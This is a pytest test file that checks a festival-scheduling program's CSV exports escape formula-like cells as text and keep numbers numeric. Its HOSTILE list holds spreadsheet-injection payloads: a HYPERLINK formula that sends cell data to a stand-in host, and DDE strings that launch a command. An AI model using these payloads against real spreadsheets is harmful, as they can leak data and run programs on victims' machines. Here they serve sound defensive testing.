"""Every CSV the program writes shows formula-like text as text, and numbers as numbers."""

from __future__ import annotations

import csv
import datetime as dt
import json
import subprocess
import sys
from pathlib import Path

import pytest

from festival_desk.core.schedule import Festival, Film, Schedule, Screen, Screening, ScreeningItem, local_datetime
from festival_desk.exporters import lists, schedule_tables
from festival_desk.exporters.cells import FORMULA_STARTS, spreadsheet_text

HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
           "-2+3+cmd|' /C calc'!A0", "\tTabbed", "\rReturned"]


def _read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_an_apostrophe(text):
    assert spreadsheet_text(text) == "'" + text
    assert not spreadsheet_text(text).startswith(FORMULA_STARTS)


@pytest.mark.parametrize("text", ["Home", "'quoted'", "Ёлка", "", "2 + 2", "A=B"])
def test_ordinary_text_is_unchanged(text):
    assert spreadsheet_text(text) == text


def test_film_list_csv_writes_hostile_titles_as_text_and_numbers_as_numbers(tmp_path):
    rows = [{"film_id": index, "title": title, "directors": [title], "runtime_minutes": -5, "mean": -1.5,
             "year": 2024, "tags": ["@tag", "ok"]}
            for index, title in enumerate(HOSTILE, start=1)]
    path = lists.write_csv(rows, tmp_path / "films.csv")
    read = _read(path)
    assert [row["Title"] for row in read] == ["'" + title for title in HOSTILE]
    assert [row["Directors"] for row in read] == ["'" + title for title in HOSTILE]
    assert {row["Tags"] for row in read} == {"'@tag, ok"}
    # numbers, negative ones too, stay numbers that a spreadsheet computes with
    assert [row["Runtime (min)"] for row in read] == ["-5"] * len(HOSTILE)
    assert [row["Mean score"] for row in read] == ["-1.50"] * len(HOSTILE)
    assert [row["Film ID"] for row in read] == [str(index) for index in range(1, len(HOSTILE) + 1)]


def test_schedule_csv_writes_hostile_text_as_text(tmp_path):
    zone = "Europe/Ljubljana"
    start = local_datetime(dt.datetime(2025, 3, 13, 18, 0), zone)
    films = {1: Film(1, HOSTILE[0], 90, "selected")}
    schedule = Schedule(Festival(dt.date(2025, 3, 13), dt.date(2025, 3, 16), zone),
                        {4: Screen(4, "@Hall", 2, "-Venue", 200)}, films,
                        [Screening(7, 4, start, (ScreeningItem(1, 90),))])
    path = tmp_path / "schedule.csv"
    schedule_tables.write_csv(schedule, path)
    [row] = _read(path)
    assert row["title"] == "'" + HOSTILE[0]
    assert (row["venue"], row["screen"]) == ("'-Venue", "'@Hall")
    assert (row["id"], row["screen_id"], row["intro_minutes"]) == ("7", "4", "0")


def test_cli_export_csv_of_imported_formula_titles(tmp_path):
    """`submissions import` of formula titles, then `export csv`: every title cell reads as text
    in a spreadsheet, and the titles themselves are stored exactly as typed."""
    source = tmp_path / "formulas.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Submission ID", "Project Title", "Duration"])
        for number, title in enumerate(HOSTILE, start=1):
            writer.writerow([str(number), title + " film", "1:30:00"])
    database = tmp_path / "festival.sqlite"
    command = [sys.executable, "-m", "festival_desk.cli"]
    subprocess.run([*command, "demo", "--db", str(database)], check=True, capture_output=True)
    subprocess.run([*command, "submissions", "import", str(source), "--db", str(database)], check=True,
                   capture_output=True)
    listed = subprocess.run([*command, "films", "list", "--db", str(database), "--json"], check=True,
                            capture_output=True, text=True).stdout
    stored = {film["title"] for film in json.loads(listed)}
    assert {title.strip() + " film" for title in HOSTILE} <= stored  # as typed (cells are trimmed)
    output = tmp_path / "films.csv"
    subprocess.run([*command, "export", "csv", "-o", str(output), "--db", str(database)], check=True,
                   capture_output=True)
    titles = [row["Title"] for row in _read(output)]
    formulas = [title.strip() + " film" for title in HOSTILE if title.strip().startswith(FORMULA_STARTS)]
    assert len(formulas) == 4
    assert {"'" + title for title in formulas} <= set(titles)
    assert not any(title.startswith(FORMULA_STARTS) for title in titles)
